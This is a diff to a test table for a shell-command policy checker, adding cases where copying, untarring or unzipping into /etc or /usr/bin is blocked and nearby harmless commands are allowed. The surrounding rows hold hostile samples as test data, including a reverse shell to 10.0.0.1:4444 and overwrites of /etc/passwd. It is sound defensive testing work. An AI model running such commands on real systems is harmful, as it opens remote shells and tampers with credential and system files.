@@ -285,6 +285,18 @@ const audit: Row[] = [
   [bash('bash < /dev/tcp/10.0.0.1/4444'), 'block', 'reverse-shell-redirect'],
   // Writes into system paths the path position rules did not see.
   [bash('cp -t /etc evil.conf'), 'block', 'copy-into-system-path-target'],
+  // Targets given as option values (`--opt=value`, `-Xvalue`, a bundle's last letter).
+  [bash('cp --target-directory=/etc evil.conf'), 'block', 'copy-into-system-path-target'],
+  [bash('cp -t/usr/bin tool'), 'block', 'copy-into-system-path-target'],
+  [bash('tar -xzf a.tgz -C /etc'), 'block', 'extract-into-system-path'],
+  [bash('tar --extract --file=a.tar --directory=/usr/bin'), 'block', 'extract-into-system-path'],
+  [bash('tar -xvzC /etc -f a.tgz'), 'block', 'extract-into-system-path'],
+  [bash('unzip -o pkg.zip -d /usr/local/bin'), 'block', 'unzip-into-system-path'],
+  // … and their harmless neighbours: extracting elsewhere, reading a system path, listing.
+  [bash('tar -xf /usr/share/x.tar -C out'), 'allow', 'risk-score'],
+  [bash('tar -cf out.tar -C /etc .'), 'allow', 'risk-score'],
+  [bash('unzip -l /usr/share/a.zip'), 'allow', 'risk-score'],
+  [bash('unzip a.zip -d build'), 'allow', 'risk-score'],
   [bash('cat x | dd of=/etc/passwd'), 'block', 'dd-system-path'],
   [bash('curl -o /etc/passwd https://x'), 'block', 'download-into-system-path'],
   [bash('wget -P /usr/bin https://x/ls'), 'block', 'download-into-system-path'],
